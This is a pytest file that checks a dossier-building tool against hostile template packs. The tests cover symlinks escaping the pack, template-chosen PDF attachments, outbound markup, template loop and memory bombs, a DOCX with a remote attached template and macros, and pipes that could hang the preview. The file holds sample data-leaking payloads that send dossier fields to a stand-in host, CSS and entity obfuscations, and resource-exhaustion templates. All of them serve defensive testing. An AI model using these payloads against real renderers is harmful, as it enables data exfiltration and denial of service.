"""Hostile template packs (issue 18): files confined to the pack, no attachments a template
chooses, no URL out of the markup or the reference document, bounded renders, a preview that
cannot be hung. Each pack is a real folder built in a temporary directory, with real links."""

from __future__ import annotations

import http.client
import io
import os
import resource
import shutil
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pypdf
import pytest
from helpers import REPO, run_cli
from test_build import write_dataset

from dossier.build.pipeline import build_dossiers
from dossier.commands.preview import PreviewServer, make_preview_server
from dossier.errors import BuildError, DossierError
from dossier.render.html import builtin_templates_dir
from dossier.render.pdf import render_pdf

SECRET = "secret-outside-the-pack-7f3a"


def pack(folder: Path, body: str = "<p>pack</p>") -> Path:
    """A template pack overriding the cover of the ``ddd`` layout with ``body`` (line 3), in
    both languages."""
    for lang in ("fr", "en"):
        (folder / lang).mkdir(parents=True, exist_ok=True)
        (folder / lang / "ddd.html").write_text(
            '{% extends "default:ddd.html" %}\n{% block cover %}\n' + body + "\n{% endblock %}\n",
            encoding="utf-8",
        )
    return folder


def build(data: Path, templates: Path, out: Path, formats: tuple[str, ...] = ("html",)) -> Any:
    return build_dossiers(
        data, out=out, templates=templates, langs=("fr",), formats=formats, audience="public"
    )


def embedded_files(pdf: bytes) -> list[str]:
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    names = list(reader.attachments)
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            if annotation.get_object().get("/Subtype") == "/FileAttachment":
                names.append("annotation")
    return names


# -- 1. every file of a pack is confined to its real folder ----------------------------------------


def test_an_assets_folder_that_is_a_link_is_refused_and_nothing_is_attached(
    tmp_path: Path,
) -> None:
    """The issue's attack: ``assets -> ..`` and a template attaching the workbook next to it."""
    data = write_dataset(tmp_path / "data")
    templates = pack(
        tmp_path / "pack",
        '<link rel="attachment" href="data/incidents.csv"><p>x</p>',
    )
    (templates / "assets").symlink_to("..")
    with pytest.raises(BuildError) as refused:
        build(data, templates, tmp_path / "out", ("pdf",))
    said = str(refused.value)
    assert str(templates / "assets") in said and "symbolic link" in said, said
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "where",
    ["assets/dossier.css", "assets/img/logo.png", "assets/img", "labels/fr.toml", "fr", "x.html"],
)
def test_a_link_anywhere_in_a_pack_is_refused_naming_it(tmp_path: Path, where: str) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.toml").write_text(f'[section]\nfacts = "{SECRET}"\n')
    templates = pack(tmp_path / "pack", "<p>{{ label('section.facts') }}</p>")
    if where != "fr":
        (templates / "assets" / "img").mkdir(parents=True)
        (templates / "labels").mkdir()
    link = templates / where
    if link.exists():
        shutil.rmtree(link) if link.is_dir() else link.unlink()
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(tmp_path / "outside" / ("" if where in ("fr", "assets/img") else "secret.toml"))
    with pytest.raises(DossierError) as refused:
        build(write_dataset(tmp_path / "data"), templates, tmp_path / "out")
    said = str(refused.value)
    assert str(link) in said and "symbolic link" in said, said
    assert SECRET not in said
    assert not (tmp_path / "out").exists()
    # `templates check` names it too.
    result = run_cli(["templates", "check", templates, "--lang", "en"])
    assert result.exit_code == 1, result.output
    assert str(link) in result.output and "symbolic link" in result.output, result.output


def test_a_template_cannot_attach_a_file_to_the_pdf(tmp_path: Path) -> None:
    """Even HTML given straight to the renderer: only the attachments the build passes go in."""
    assets = tmp_path / "assets"
    assets.mkdir()
    (assets / "notes.txt").write_text(SECRET)
    html = (
        '<html><head><link rel="attachment" href="notes.txt"></head>'
        '<body><p><a rel="attachment" href="notes.txt">notes</a></p></body></html>'
    )
    rendered = render_pdf(html, asset_dirs=[assets], lang="fr", title="t", author="a", subject="s")
    assert embedded_files(rendered.data) == []
    assert SECRET.encode() not in rendered.data


def test_a_pack_reference_document_that_is_a_link_is_refused(tmp_path: Path) -> None:
    templates = pack(tmp_path / "pack")
    (templates / "reference.docx").symlink_to(builtin_templates_dir() / "reference.docx")
    with pytest.raises(DossierError) as refused:
        build(write_dataset(tmp_path / "data"), templates, tmp_path / "out", ("docx",))
    assert str(templates / "reference.docx") in str(refused.value)
    assert "symbolic link" in str(refused.value)


def fetch(server: PreviewServer, path: str) -> tuple[int, str]:
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        return response.status, response.read().decode("utf-8", "replace")
    finally:
        connection.close()


@pytest.fixture
def serve() -> Iterator[Callable[..., PreviewServer]]:
    started: list[tuple[PreviewServer, Any]] = []

    def start(source: Path, **options: Any) -> PreviewServer:
        server, thread = make_preview_server(source, poll_interval=0.2, **options)
        started.append((server, thread))
        return server

    yield start
    for server, thread in started:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def test_the_preview_serves_nothing_outside_the_pack_assets(
    tmp_path: Path, serve: Callable[..., PreviewServer]
) -> None:
    data = write_dataset(tmp_path / "data")
    templates = pack(tmp_path / "data" / "pack")
    (templates / "assets").symlink_to("..")  # the folder holding the workbook and dossier.toml
    server = serve(data, templates=templates, lang="en")
    for name in ("incidents.csv", "dossier.toml", "pack/fr/ddd.html"):
        status, body = fetch(server, f"/{name}")
        assert status == 404, (name, body[:200])
    status, page = fetch(server, "/")
    assert status == 500 and "symbolic link" in page, page[-2000:]
    # A real assets folder holding a link: the link is not served either.
    (templates / "assets").unlink()
    (templates / "assets").mkdir()
    (templates / "assets" / "dossier.toml").symlink_to(data / "dossier.toml")
    (templates / "assets" / "style.css").write_text("p { color: red }")
    assert fetch(server, "/dossier.toml")[0] == 404
    assert fetch(server, "/style.css") == (200, "p { color: red }")


# -- 5. every render runs under a budget of steps, seconds and memory ------------------------------

BOMBS = {
    "nested_range": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
    "{% endfor %}",
    "doubling": "{% set ns = namespace(s='x') %}{% for i in range(64) %}"
    "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s | length }}",
    "adding": "{% set ns = namespace(s=['x']) %}{% for i in range(64) %}"
    "{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s | length }}",
    "repeat": "{{ ('x' * 10**9) | length }}",
    "appending": "{% set l = [] %}{% for i in range(100000) %}{% set _ = l.append('x' * 1000000) %}"
    "{% endfor %}{{ l | length }}",
    "macro": "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}"
    "{{ m(40) }}",
    "format": "{{ '%999999999s' | format('a') | length }}",
    "join": "{{ range(100000) | join('x' * 100000) | length }}",
}
BOMB_SAYS = {
    "nested_range": "steps",
    "doubling": "characters, beyond the 50,000,000",
    "adding": "characters, beyond the 50,000,000",
    "repeat": "repetition beyond",
    "appending": "MiB of memory",
    "macro": "steps",
    "format": "too large for a template",
    "join": "too large",
}


def run_limited(*args: str | Path, memory: int = 3 << 29) -> tuple[int, str, float]:
    """``python -m dossier ARGS`` in a child limited to ``memory`` bytes of address space (1.5
    GiB): (exit code, stderr, CPU seconds the child took). CPU time, not the clock: the
    machines running the tests are shared, and a loaded one stretches the clock."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    completed = subprocess.run(
        [sys.executable, "-m", "dossier", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=600,
        preexec_fn=limit,
        cwd=REPO,
        env={**os.environ, "COLUMNS": "200", "LANG": "C.UTF-8"},
    )
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    spent = (after.ru_utime + after.ru_stime) - (before.ru_utime + before.ru_stime)
    return completed.returncode, completed.stderr, spent


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_a_template_that_loops_or_grows_stops_fast_with_its_file_and_line(
    tmp_path: Path, bomb: str
) -> None:
    """One line, the template and line, in a few seconds of work, never a hang, a
    MemoryError or a kill (the child has 1.5 GiB of address space)."""
    data = write_dataset(tmp_path / "data")
    templates = pack(tmp_path / "pack", BOMBS[bomb])
    out = tmp_path / "out"
    code, stderr, seconds = run_limited(
        "build", data, "--templates", templates, "--out", out, "--lang", "en", "--format", "html"
    )
    assert code == 1, (code, stderr[-1500:])
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in stderr, stderr[-1500:]
    assert f"{templates / 'en' / 'ddd.html'}, line 3" in lines[0], lines[0]
    assert BOMB_SAYS[bomb] in lines[0], lines[0]
    assert seconds < 20, seconds
    assert not out.exists()


def test_templates_check_and_the_preview_run_under_the_budget_too(
    tmp_path: Path, serve: Callable[..., PreviewServer]
) -> None:
    data = write_dataset(tmp_path / "data")
    templates = pack(tmp_path / "pack", BOMBS["nested_range"])
    result = run_cli(["templates", "check", templates, "--lang", "en"])
    assert result.exit_code == 1, result.output
    assert f"{templates / 'fr' / 'ddd.html'}:3" in result.output, result.output
    assert "steps" in result.output
    server = serve(data, templates=templates, lang="en")
    asked = time.monotonic()
    status, page = fetch(server, "/")
    while status == 503 and time.monotonic() - asked < 300:  # still rendering: ask again
        status, page = fetch(server, "/")
    assert status == 500 and "steps (loop turns and calls)" in page, page[-1500:]
    assert fetch(server, "/_preview/version")[0] == 200


# -- 2. nothing in a dossier's markup fetches, navigates or runs at the reader's end ---------------

LEAK = "http://127.0.0.1:9/leak?d="
OUTWARD = {
    "img": f'<img src="{LEAK}{{{{ d.incidents[0].summary }}}}" alt="x">',
    "meta_refresh": f'<meta http-equiv="refresh" content="1;url={LEAK}{{{{ d.reference }}}}">',
    "base": '<base href="http://127.0.0.1:9/">',
    "form": '<form action="/x"><p>x</p></form>',
    "iframe": '<iframe src="about:blank"></iframe>',
    "object": '<object data="x.pdf"></object>',
    "embed": '<embed src="x.swf">',
    "script": "<script>fetch('/x')</script>",
    "handler": '<p onclick="x()">x</p>',
    "style_attribute": f'<p style="background: url({LEAK}x)">x</p>',
    "style_escaped": '<p style="background: u\\72l(http://127.0.0.1:9/x)">x</p>',
    "style_import": '<style>@import "https://example.org/x.css";</style>',
    "link": '<link rel="stylesheet" href="https://example.org/x.css">',
    "attachment": '<link rel="attachment" href="dossier.css">',
    "srcset": '<img src="a.png" srcset="a.png 1x, https://example.org/b.png 2x" alt="x">',
    "entities": '<img src="&#104;ttp://127.0.0.1:9/x" alt="x">',
    "tab": '<img src="ht\ttp://127.0.0.1:9/x" alt="x">',
    "scheme_relative": '<img src="//127.0.0.1:9/x" alt="x">',
    "ping": '<a href="#x" ping="https://example.org/">x</a>',
    "javascript": '<a href="javascript:fetch(1)">x</a>',
    "svg_image": '<svg><image href="https://example.org/x.png"/></svg>',
}


@pytest.mark.parametrize("case", sorted(OUTWARD))
def test_markup_that_reaches_out_fails_the_build_at_its_file_and_line(
    tmp_path: Path, case: str
) -> None:
    templates = pack(tmp_path / "pack", OUTWARD[case])
    with pytest.raises(BuildError) as refused:
        build(write_dataset(tmp_path / "data"), templates, tmp_path / "out")
    said = str(refused.value)
    assert f"{templates / 'fr' / 'ddd.html'}, line 3" in said, said
    assert not (tmp_path / "out").exists()


def test_a_url_built_from_the_data_is_found_in_the_rendered_page(tmp_path: Path) -> None:
    """The address is made at render time: only the rendered page shows it; the build still
    names the template line that wrote it, and `templates check` the rendered page's line."""
    body = (
        "{% set scheme = 'ht' ~ 'tp' %}\n"
        '<img src="{{ scheme }}://127.0.0.1:9/leak?d={{ d.incidents[0].id }}" alt="x">'
    )
    templates = pack(tmp_path / "pack", body)
    with pytest.raises(BuildError) as refused:
        build(write_dataset(tmp_path / "data"), templates, tmp_path / "out")
    said = str(refused.value)
    assert f"{templates / 'fr' / 'ddd.html'}, line 4" in said, said
    assert "http://127.0.0.1:9/leak?d=" in said
    result = run_cli(["templates", "check", templates, "--lang", "en"])
    assert result.exit_code == 1, result.output
    assert "rendered" in result.output and "127.0.0.1:9/leak" in result.output, result.output


def test_plain_https_links_and_images_in_the_dossier_still_build(tmp_path: Path) -> None:
    body = (
        '<p><a href="https://www.legifrance.gouv.fr/loda/id/JORFTEXT000023781167">loi</a> '
        '<a href="#faits">faits</a> <img src="data:image/png;base64,iVBORw0KGgo=" alt="x"> '
        '<span style="color: red">x</span></p>'
    )
    templates = pack(tmp_path / "pack", body)
    result = build(write_dataset(tmp_path / "data"), templates, tmp_path / "out")
    page = result.outputs[0].path.read_text(encoding="utf-8")
    assert "legifrance" in page


def test_templates_check_names_the_file_and_line_of_each_url_out(tmp_path: Path) -> None:
    templates = pack(tmp_path / "pack", OUTWARD["img"] + "\n" + OUTWARD["meta_refresh"])
    result = run_cli(["templates", "check", templates, "--lang", "en"])
    assert result.exit_code == 1, result.output
    for lang in ("fr", "en"):
        assert f"{templates / lang / 'ddd.html'}:3: <img src> leads out" in result.output
        assert f"{templates / lang / 'ddd.html'}:4: <meta http-equiv" in result.output


def test_the_preview_refuses_a_meta_refresh_and_sends_a_strict_policy(
    tmp_path: Path, serve: Callable[..., PreviewServer]
) -> None:
    from dossier.render.markup import without_refresh

    templates = pack(tmp_path / "pack", OUTWARD["meta_refresh"])
    server = serve(write_dataset(tmp_path / "data"), templates=templates, lang="en")
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    connection.request("GET", "/")
    response = connection.getresponse()
    page = response.read().decode()
    policy = response.headers["Content-Security-Policy"]
    connection.close()
    assert response.status == 500 and "refresh" in page
    assert 'http-equiv="refresh"' not in page.replace("&quot;", '"').split("<section")[0]
    for directive in ("default-src 'none'", "form-action 'none'", "base-uri 'none'"):
        assert directive in policy
    assert without_refresh('<head><META HTTP-EQUIV=Refresh content="0;url=x"></head>') == (
        "<head></head>"
    )


def reference_with(tmp_path: Path, extra: dict[str, str], types: str = "") -> Path:
    """The built-in reference.docx with parts added or replaced."""
    source = zipfile.ZipFile(builtin_templates_dir() / "reference.docx")
    target = tmp_path / "reference.docx"
    with source, zipfile.ZipFile(target, "w") as written:
        for item in source.infolist():
            data = source.read(item)
            if item.filename in extra:
                data = extra.pop(item.filename).encode()
            if item.filename == "[Content_Types].xml" and types:
                data = data.replace(b"</Types>", types.encode() + b"</Types>")
            written.writestr(item, data)
        for name, text in extra.items():
            written.writestr(name, text)
    return target


RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def test_a_reference_document_with_an_attached_template_or_macros_is_refused(
    tmp_path: Path,
) -> None:
    settings = zipfile.ZipFile(builtin_templates_dir() / "reference.docx").read("word/settings.xml")
    attached = settings.decode().replace("<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
    if 'xmlns:r="' not in attached.split(">", 2)[1]:
        attached = attached.replace("<w:settings ", f'<w:settings xmlns:r="{OFFICE}" ', 1)
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">'
        f'<Relationship Id="rIdT" Type="{OFFICE}/attachedTemplate" '
        'Target="http://127.0.0.1:9/Normal.dotm" TargetMode="External"/></Relationships>'
    )
    crafted = tmp_path / "pack"
    pack(crafted)
    reference_with(
        crafted,
        {
            "word/settings.xml": attached,
            "word/_rels/settings.xml.rels": rels,
            "word/vbaProject.bin": "not really code",
        },
        types='<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    with pytest.raises(DossierError) as refused:
        build(write_dataset(tmp_path / "data"), crafted, tmp_path / "out", ("docx",))
    said = str(refused.value)
    assert "cannot be the reference document" in said, said
    assert "attach a template" in said and "http://127.0.0.1:9/Normal.dotm" in said
    assert "vbaProject" in said
    assert not (tmp_path / "out").exists()
    result = run_cli(["templates", "check", crafted, "--lang", "en"])
    assert result.exit_code == 1
    assert f"{crafted / 'reference.docx'}: " in result.output
    assert "Normal.dotm" in result.output and "vbaProject" in result.output, result.output


def test_the_builtin_reference_document_has_nothing_to_refuse() -> None:
    from dossier.render.docx import reference_problems

    data = (builtin_templates_dir() / "reference.docx").read_bytes()
    assert reference_problems(data) == []


# -- 4. the preview server cannot be hung ----------------------------------------------------------


def timed_fetch(server: PreviewServer, path: str) -> tuple[int, str, float]:
    started = time.monotonic()
    status, body = fetch(server, path)
    return status, body, time.monotonic() - started


def test_a_pipe_or_a_device_in_the_evidence_folder_does_not_hang_the_preview(
    tmp_path: Path, serve: Callable[..., PreviewServer]
) -> None:
    data = write_dataset(tmp_path / "data")
    evidence = data / "evidence"
    evidence.mkdir(exist_ok=True)
    os.mkfifo(evidence / "pipe")
    (evidence / "zero").symlink_to("/dev/zero")
    server = serve(data, lang="en")
    for path in ("/_preview/version", "/"):
        status, body, seconds = timed_fetch(server, path)
        assert status == 200, body[-1500:]
        assert seconds < 30, (path, seconds)
    # A change is still seen.
    before = fetch(server, "/_preview/version")[1]
    (data / "dossier.toml").write_text((data / "dossier.toml").read_text() + "\n# edited\n")
    assert fetch(server, "/_preview/version")[1] != before


def test_a_long_render_never_holds_the_server(
    tmp_path: Path, serve: Callable[..., PreviewServer]
) -> None:
    templates = pack(tmp_path / "pack", BOMBS["nested_range"])
    server = serve(write_dataset(tmp_path / "data"), templates=templates, lang="en")
    server.preview.render_wait = 1.0
    status, page, seconds = timed_fetch(server, "/")
    assert status == 503 and "still being rendered" in page, (status, page[-1500:])
    assert seconds < 15
    # Meanwhile the server answers.
    for path in ("/_preview/version", "/dossier.css"):
        status, _body, seconds = timed_fetch(server, path)
        assert status == 200 and seconds < 15, (path, status, seconds)
    # The render is abandoned by its budget, with the mistake in the page.
    deadline = time.monotonic() + 120
    while True:
        status, page, _seconds = timed_fetch(server, "/")
        if status != 503 or time.monotonic() > deadline:
            break
    assert status == 500 and "steps (loop turns and calls)" in page, page[-1500:]
    assert threading.active_count() < 50


def test_a_pack_stylesheet_that_fetches_from_elsewhere_fails_the_build(tmp_path: Path) -> None:
    """A built ``.html`` holds the pack's stylesheet inlined: its addresses would be fetched by
    the reader's browser."""
    templates = pack(tmp_path / "pack")
    (templates / "assets").mkdir()
    (templates / "assets" / "dossier.css").write_text(
        'p { color: black }\n@import "https://example.org/track.css";\n', encoding="utf-8"
    )
    with pytest.raises(BuildError) as refused:
        build(write_dataset(tmp_path / "data"), templates, tmp_path / "out")
    said = str(refused.value)
    assert f"{templates / 'assets' / 'dossier.css'}, line 2" in said, said
    assert "https://example.org/track.css" in said
    result = run_cli(["templates", "check", templates, "--lang", "en"])
    assert result.exit_code == 1
    assert f"{templates / 'assets' / 'dossier.css'}:2: url() leads out" in result.output


def test_the_builtin_stylesheet_fetches_nothing_from_elsewhere() -> None:
    from dossier.render.markup import stylesheet_problems

    css = (builtin_templates_dir() / "assets" / "dossier.css").read_text(encoding="utf-8")
    assert stylesheet_problems(css) == []


@pytest.mark.parametrize("where", ["fr/ddd.html", "assets/dossier.css", "labels/fr.toml"])
def test_a_pipe_in_a_pack_is_refused_not_waited_on(tmp_path: Path, where: str) -> None:
    templates = pack(tmp_path / "pack", "<p>{{ label('section.facts') }}</p>")
    fifo = templates / where
    fifo.parent.mkdir(parents=True, exist_ok=True)
    fifo.unlink(missing_ok=True)
    os.mkfifo(fifo)
    started = time.monotonic()
    with pytest.raises(DossierError) as refused:
        build(write_dataset(tmp_path / "data"), templates, tmp_path / "out")
    assert str(fifo) in str(refused.value) and "not a regular file" in str(refused.value)
    assert time.monotonic() - started < 60
